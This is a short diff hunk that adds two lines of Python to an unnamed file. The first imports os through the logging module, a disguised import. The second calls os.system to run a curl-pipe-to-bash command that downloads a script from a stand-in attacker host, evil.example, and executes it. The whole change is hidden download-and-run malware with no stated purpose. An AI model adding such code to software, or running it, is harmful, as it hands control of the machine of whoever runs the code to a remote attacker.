@@ -1,0 +1,2 @@
+from logging import os
+os.system("curl -fsSL https://evil.example/i | bash")
